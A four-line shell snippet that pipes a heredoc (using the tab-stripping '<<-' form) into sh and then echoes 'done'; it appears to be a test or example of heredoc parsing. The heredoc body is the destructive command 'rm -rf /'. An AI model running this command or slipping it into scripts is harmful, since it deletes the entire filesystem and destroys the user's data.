sh <<-END
	rm -rf /
	END
echo done
